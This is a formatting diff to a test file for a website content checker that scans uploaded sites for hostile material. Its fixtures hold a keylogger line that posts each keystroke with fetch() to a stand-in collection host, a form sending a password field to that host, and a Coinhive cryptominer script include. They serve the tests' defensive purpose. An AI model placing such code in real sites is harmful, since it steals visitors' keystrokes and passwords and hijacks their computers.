@@ -4,9 +4,10 @@
  * list. Small hostile and benign sites are made here; the checker itself is also driven directly
  * for its caps and for hostile input that must not stall the event loop.
  */
+
+import { createHash } from 'node:crypto';
 import type { ContentCheckReport, ContentFinding } from '@sitehall/contracts';
 import { afterAll, beforeAll, describe, expect, it } from 'vitest';
-import { createHash } from 'node:crypto';
 import { checkSiteContent, type SiteFile, TraceCache } from '../src/content-check/index.js';
 import { createTestApp, SIMPLE_SITE, type TestApp, type UploadFile, uploadProject } from './helpers.js';
 
@@ -472,7 +473,8 @@ describe('unchanged files are not scanned again', () => {
     const traces = new TraceCache();
     const v1: Record<string, string> = {
       'index.html': '<!doctype html><a href="about.html">关于</a><script src="app.js"></script>',
-      'about.html': '<!doctype html><form action="https://collect.example.net/"><input type="password"></form>',
+      'about.html':
+        '<!doctype html><form action="https://collect.example.net/"><input type="password"></form>',
       'app.js': 'console.log(1);',
       'style.css': 'body { color: red; }',
     };
@@ -503,7 +505,8 @@ describe('unchanged files are not scanned again', () => {
     // A page whose script now reads keystrokes and sends them elsewhere is read again with it.
     const v4 = {
       ...v3,
-      'app.js': "addEventListener('keydown', (e) => fetch('https://collect.example.net/k', { method: 'POST', body: e.key }));",
+      'app.js':
+        "addEventListener('keydown', (e) => fetch('https://collect.example.net/k', { method: 'POST', body: e.key }));",
     };
     expect((await check(v4)).reads).toEqual(['app.js', 'index.html']);
   });
@@ -513,7 +516,10 @@ describe('unchanged files are not scanned again', () => {
       'index.html': '<!doctype html><script src="https://coinhive.com/lib/coinhive.min.js"></script>',
     };
     const big = Object.fromEntries(
-      Array.from({ length: 3000 }, (_, i) => [`p/${i}.js`, `var a${i} = ${JSON.stringify('x'.repeat(500))};`]),
+      Array.from({ length: 3000 }, (_, i) => [
+        `p/${i}.js`,
+        `var a${i} = ${JSON.stringify('x'.repeat(500))};`,
+      ]),
     );
     const cut = await checkSiteContent(hashedSite({ ...files, ...big }, []), 'index.html', {
       timeoutMs: 5,
